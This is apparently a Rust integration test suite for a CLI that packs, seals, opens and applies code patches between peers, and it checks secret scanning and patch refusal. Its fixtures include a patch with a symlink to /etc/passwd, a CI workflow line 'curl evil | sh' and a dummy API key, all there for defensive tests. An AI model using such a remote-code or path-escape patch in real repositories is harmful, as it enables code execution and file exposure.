//! `ash pack` and `ash apply`, end to end over real homes, trees and git.

use std::fs;
use std::path::Path;
use std::process::{Command, Output};

use ash_identity::Identity;
use ash_pack::{JobId, Recipient, seal_diff};
use pretty_assertions::assert_eq;
use serde_json::Value;

use super::{ash_env, stderr, stdout};

const PATH: &str = "/usr/local/bin:/usr/bin:/bin";

fn run(home: &Path, cwd: &Path, args: &[&str]) -> Output {
    ash_env(
        cwd,
        args,
        &[("ASH_HOME", home.to_str().unwrap()), ("PATH", PATH), ("HOME", home.to_str().unwrap())],
    )
}

fn json(out: &Output) -> Value {
    assert_eq!(out.status.code(), Some(0), "{}", stderr(out));
    serde_json::from_str(&stdout(out)).unwrap()
}

fn git(dir: &Path, args: &[&str]) {
    let out = Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
        .args(args)
        .current_dir(dir)
        .env_clear()
        .env("PATH", PATH)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", dir)
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
}

/// Alice's and Bob's homes (both joined) and Alice's project.
struct World {
    _root: tempfile::TempDir,
    alice: std::path::PathBuf,
    bob: std::path::PathBuf,
    project: std::path::PathBuf,
    scratch: std::path::PathBuf,
}

fn world() -> World {
    let root = tempfile::tempdir().unwrap();
    let p = |name: &str| {
        let dir = root.path().join(name);
        fs::create_dir_all(&dir).unwrap();
        dir
    };
    let (alice, bob, project, scratch) = (p("alice"), p("bob"), p("project"), p("scratch"));
    let genesis = scratch.join("genesis.toml");
    crate::ledger::new_network(&root.path().join("admin"), "pack-net", &genesis);
    crate::ledger::join(&alice, &genesis, "alice");
    crate::ledger::join(&bob, &genesis, "bob");
    git(&project, &["init", "-q"]);
    fs::write(project.join(".gitignore"), "target/\n").unwrap();
    fs::write(project.join("main.rs"), "fn main() {}\n").unwrap();
    fs::create_dir_all(project.join("target")).unwrap();
    fs::write(project.join("target/out"), "build").unwrap();
    fs::write(project.join(".env"), "TOKEN=1").unwrap();
    fs::write(project.join("config.py"), format!("key = \"sk-ant-{}\"\n", "a".repeat(40))).unwrap();
    World { _root: root, alice, bob, project, scratch }
}

#[test]
fn list_create_open_round_trip() {
    let w = world();
    let listed = json(&run(&w.alice, &w.project, &["pack", "list", "--json"]));
    let paths: Vec<&str> =
        listed["entries"].as_array().unwrap().iter().map(|e| e["path"].as_str().unwrap()).collect();
    assert_eq!(paths, vec![".gitignore", "config.py", "main.rs"]);
    let excluded: Vec<(&str, &str)> = listed["excluded"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| (e["path"].as_str().unwrap(), e["reason"].as_str().unwrap()))
        .collect();
    assert_eq!(excluded, vec![(".env", "secret"), (".git", "secret"), ("target", "ignored")]);
    assert_eq!(listed["secrets"][0]["rule"], "anthropic-api-key");
    assert!(
        !stdout(&run(&w.alice, &w.project, &["pack", "list"])).contains(&"a".repeat(40)),
        "secret printed"
    );

    // Bob's sealing key, as Bob shares it.
    let key = stdout(&run(&w.bob, &w.bob, &["pack", "key"]));
    let key_file = w.scratch.join("bob.key");
    fs::write(&key_file, &key).unwrap();
    let sealed = w.scratch.join("p.ashpkg");
    let args =
        ["pack", "create", "--to-key", key_file.to_str().unwrap(), "-o", sealed.to_str().unwrap()];

    // The secret scan refuses until the file is excluded.
    let out = run(&w.alice, &w.project, &args);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("config.py:1  anthropic-api-key  sk-ant-…"), "{}", stderr(&out));
    assert!(stderr(&out).contains("pass --allow-secrets"), "{}", stderr(&out));
    assert!(!sealed.exists(), "a refused package must not be written");
    fs::write(w.project.join(".ashignore"), "config.py\n").unwrap();
    let mut json_args = args.to_vec();
    json_args.push("--json");
    let created = json(&run(&w.alice, &w.project, &json_args));
    assert_eq!(created["entries"], 3);

    // Only Bob can open it; into a fresh directory.
    let into = w.scratch.join("tree");
    let out = run(
        &w.alice,
        &w.scratch,
        &["pack", "open", sealed.to_str().unwrap(), "--into", into.to_str().unwrap()],
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("not to this identity"), "{}", stderr(&out));
    assert!(!into.exists());
    let opened = json(&run(
        &w.bob,
        &w.scratch,
        &["pack", "open", sealed.to_str().unwrap(), "--into", into.to_str().unwrap(), "--json"],
    ));
    assert_eq!(opened["digest"], created["digest"]);
    let mut names: Vec<String> = fs::read_dir(&into)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    assert_eq!(names, vec![".ashignore", ".gitignore", "main.rs"]);

    // --to NODE_ID needs the recipient's profile in the local ledger.
    let bob_id = created["recipient"].as_str().unwrap().to_owned();
    let to_id = ["pack", "create", "--to", &bob_id, "-o", sealed.to_str().unwrap()];
    let out = run(&w.alice, &w.project, &to_id);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("import their ledger"), "{}", stderr(&out));
    let bundle = w.scratch.join("bob.bundle");
    for (home, args) in [
        (&w.bob, ["ledger", "export", "-o", bundle.to_str().unwrap()]),
        (&w.alice, ["ledger", "import", bundle.to_str().unwrap(), "--json"]),
    ] {
        let out = run(home, home, &args);
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    }
    let out = run(&w.alice, &w.project, &to_id);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
}

#[test]
fn apply_checks_applies_and_refuses() {
    let w = world();
    fs::remove_file(w.project.join("config.py")).unwrap();
    // A result made in a copy of the project.
    let work = w.scratch.join("work");
    fs::create_dir_all(&work).unwrap();
    fs::write(work.join("main.rs"), "fn main() {}\n").unwrap();
    git(&work, &["init", "-q"]);
    git(&work, &["add", "-A"]);
    git(&work, &["commit", "-qm", "base"]);
    fs::write(work.join("main.rs"), "fn main() {\n    println!(\"hi\");\n}\n").unwrap();
    fs::write(work.join("new.txt"), "new\n").unwrap();
    git(&work, &["add", "-A"]);
    let patch_out = Command::new("git")
        .args(["diff", "--cached", "--binary"])
        .current_dir(&work)
        .env("PATH", PATH)
        .output()
        .unwrap();
    let patch = w.scratch.join("result.patch");
    fs::write(&patch, &patch_out.stdout).unwrap();
    let patch_arg = patch.to_str().unwrap();

    let out = run(&w.alice, &w.project, &["apply", patch_arg, "--check"]);
    assert_eq!(
        (out.status.code(), stdout(&out)),
        (
            Some(0),
            "  M main.rs\n  A new.txt (mode 100644)\n2 file(s) applies cleanly to .\n".to_owned()
        )
    );
    assert!(!w.project.join("new.txt").exists());

    // Sealed for Alice by Bob, applied with Alice's identity.
    let alice = Identity::load(&w.alice.join("keys/identity.key")).unwrap();
    let bob = Identity::load(&w.bob.join("keys/identity.key")).unwrap();
    let to = Recipient { node: alice.node_id(), key: alice.sealing_public() };
    let sealed = w.scratch.join("result.ashdiff");
    fs::write(&sealed, seal_diff(&patch_out.stdout, &bob, &to, JobId([9; 16])).unwrap()).unwrap();
    let applied = json(&run(&w.alice, &w.project, &["apply", sealed.to_str().unwrap(), "--json"]));
    assert_eq!(
        (applied["applied"].as_bool(), applied["sender"].as_str()),
        (Some(true), Some(bob.node_id().to_string().as_str()))
    );
    assert_eq!(fs::read_to_string(w.project.join("new.txt")).unwrap(), "new\n");

    // Applying again conflicts: exit 1, per-file report, nothing changed.
    let before = fs::read_to_string(w.project.join("main.rs")).unwrap();
    let out = run(&w.alice, &w.project, &["apply", patch_arg]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("new.txt: new.txt: already exists in working directory"),
        "{}",
        stdout(&out)
    );
    assert!(stdout(&out).contains("nothing was changed"));
    assert_eq!(fs::read_to_string(w.project.join("main.rs")).unwrap(), before);

    // A hostile patch is refused before git sees it.
    let evil = w.scratch.join("evil.patch");
    fs::write(&evil, "diff --git a/l b/l\nnew file mode 120000\n--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+/etc/passwd\n\\ No newline at end of file\n").unwrap();
    let out = run(&w.alice, &w.project, &["apply", evil.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(stderr(&out), "error: patch refused: l: symlink to `/etc/passwd` leaves the tree\n");
    assert!(fs::symlink_metadata(w.project.join("l")).is_err());

    // A patch that writes a CI workflow and a new executable is not written without --yes
    // (there is no terminal to ask on here), and says why.
    let ci = w.scratch.join("ci.patch");
    fs::write(&ci, "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\nnew file mode 100644\n--- /dev/null\n+++ b/.github/workflows/ci.yml\n@@ -0,0 +1 @@\n+run: curl evil | sh\ndiff --git a/tool b/tool\nnew file mode 100755\n--- /dev/null\n+++ b/tool\n@@ -0,0 +1 @@\n+echo hi\n").unwrap();
    let out = run(&w.alice, &w.project, &["apply", ci.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(
        stderr(&out),
        "error: the patch writes files that run code or change how git treats files:\n  .github/workflows/ci.yml: CI workflow: runs on the forge\n  tool: becomes executable\nnothing was changed; review them, then pass --yes\n"
    );
    assert!(!w.project.join(".github").exists());
    let out = run(&w.alice, &w.project, &["apply", ci.to_str().unwrap(), "--yes"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        stdout(&out),
        "  A .github/workflows/ci.yml (mode 100644)  ! CI workflow: runs on the forge\n  A tool (mode 100755)  ! becomes executable\n2 file(s) applied to .\n"
    );
}

#[test]
fn apply_on_a_full_disk_leaves_the_tree_as_it_was() {
    if !nix::unistd::geteuid().is_root()
        || Command::new("unshare").arg("--version").output().is_err()
    {
        eprintln!("skipping: needs root and unshare(1) for a private tmpfs");
        return;
    }
    let w = world();
    // The patch edits a small file, then adds one far larger than the disk.
    let source = w.scratch.join("source");
    fs::create_dir_all(&source).unwrap();
    git(&source, &["init", "-q"]);
    fs::write(source.join("a.txt"), "one\n").unwrap();
    git(&source, &["add", "-A"]);
    git(&source, &["commit", "-qm", "base"]);
    fs::write(source.join("a.txt"), "one\ntwo\n").unwrap();
    let noise: Vec<u8> =
        (0..2_000_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    fs::write(source.join("z.bin"), noise).unwrap();
    git(&source, &["add", "-A"]);
    let diff = Command::new("git")
        .args(["diff", "--cached", "--binary"])
        .current_dir(&source)
        .env_clear()
        .env("PATH", PATH)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    let patch = w.scratch.join("big.patch");
    fs::write(&patch, &diff.stdout).unwrap();
    let disk = w.scratch.join("disk");
    fs::create_dir_all(&disk).unwrap();
    let script = r#"mount -t tmpfs -o size=256k tmpfs "$1" && printf 'one\n' > "$1/a.txt" &&
        listing() { (cd "$1" && find . -printf '%p %M %s\n' | sort && cat a.txt); } &&
        listing "$1" && "$0" apply "$2" --into "$1" --yes; echo "exit $?"; listing "$1""#;
    let out = Command::new("unshare")
        .args(["-m", "sh", "-c", script])
        .arg(env!("CARGO_BIN_EXE_ash"))
        .arg(&disk)
        .arg(&patch)
        .env_clear()
        .env("PATH", "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin")
        .env("ASH_HOME", &w.alice)
        .env("HOME", &w.alice)
        .output()
        .unwrap();
    let (text, errors) = (stdout(&out), stderr(&out));
    let (before, after) = text.split_once("exit ").unwrap();
    assert_eq!(after, format!("2\n{before}"), "{errors}");
    assert!(before.ends_with("./a.txt -rw-r--r-- 4\none\n"), "{before}");
    assert!(
        errors.starts_with(
            "error: git could not write the patch, so the tree was put back as it was: "
        ) && errors.contains("z.bin"),
        "{errors}"
    );
}

#[test]
fn a_result_goes_back_from_an_opened_tree_with_git_isolated() {
    let w = world();
    fs::remove_file(w.project.join("config.py")).unwrap();
    let key = |home: &Path, name: &str| {
        let file = w.scratch.join(name);
        fs::write(&file, stdout(&run(home, home, &["pack", "key"]))).unwrap();
        file
    };
    let (bob_key, alice_key) = (key(&w.bob, "bob.key"), key(&w.alice, "alice.key"));
    let sealed = w.scratch.join("p.ashpkg");
    let created = json(&run(
        &w.alice,
        &w.project,
        &[
            "pack",
            "create",
            "--to-key",
            bob_key.to_str().unwrap(),
            "-o",
            sealed.to_str().unwrap(),
            "--json",
        ],
    ));
    // Bob opens it; the tree as unpacked is recorded by git in a sandbox.
    let ws = w.scratch.join("ws");
    let opened = json(&run(
        &w.bob,
        &w.scratch,
        &["pack", "open", sealed.to_str().unwrap(), "--into", ws.to_str().unwrap(), "--json"],
    ));
    if !nix::unistd::geteuid().is_root() && opened["baseline"].is_null() {
        eprintln!("skipping: no isolating sandbox here: {}", opened["baselineError"]);
        return;
    }
    assert_eq!(opened["baseline"].as_str().map(str::len), Some(40), "{opened}");
    if nix::unistd::geteuid().is_root() {
        // Sandboxed git never runs as root: the tree was handed to the sandbox's user.
        use std::os::unix::fs::MetadataExt as _;
        assert_ne!(fs::metadata(&ws).unwrap().uid(), 0);
    }
    // An agent works in the tree.
    fs::write(ws.join("main.rs"), "fn main() {\n    println!(\"done\");\n}\n").unwrap();
    fs::write(ws.join("NOTES.md"), "what I did\n").unwrap();
    let result = w.scratch.join("r.ashdiff");
    let out_arg = result.to_str().unwrap();
    let to_alice = ["--to-key", alice_key.to_str().unwrap()];

    // Git over a peer's tree never runs unconfined, and only opened trees have a way back.
    let out = run(
        &w.bob,
        &ws,
        &[&["pack", "result", "-o", out_arg, "--sandbox", "plain"][..], &to_alice].concat(),
    );
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(
        stderr(&out),
        "error: git over a tree a peer sent runs isolated: choose the sandbox auto, native or bwrap, not plain\n"
    );
    let out =
        run(&w.bob, &w.scratch, &[&["pack", "result", ".", "-o", out_arg][..], &to_alice].concat());
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains(". was not unpacked by `ash pack open` on this machine"),
        "{}",
        stderr(&out)
    );
    assert!(!result.exists());

    let sent = json(&run(
        &w.bob,
        &ws,
        &[&["pack", "result", "-o", out_arg, "--json"][..], &to_alice].concat(),
    ));
    let files: Vec<&str> =
        sent["files"].as_array().unwrap().iter().map(|f| f["path"].as_str().unwrap()).collect();
    assert_eq!(files, ["NOTES.md", "main.rs"]);
    assert_eq!(
        (sent["job"].as_str(), sent["insertions"].as_u64()),
        (created["job"].as_str(), Some(4))
    );

    // Alice applies it, from Bob only.
    let bob_id = created["recipient"].as_str().unwrap();
    let applied = json(&run(&w.alice, &w.project, &["apply", out_arg, "--from", bob_id, "--json"]));
    assert_eq!(applied["applied"], true, "{applied}");
    assert_eq!(fs::read_to_string(w.project.join("NOTES.md")).unwrap(), "what I did\n");
    assert_eq!(
        fs::read_to_string(w.project.join("main.rs")).unwrap(),
        "fn main() {\n    println!(\"done\");\n}\n"
    );
}
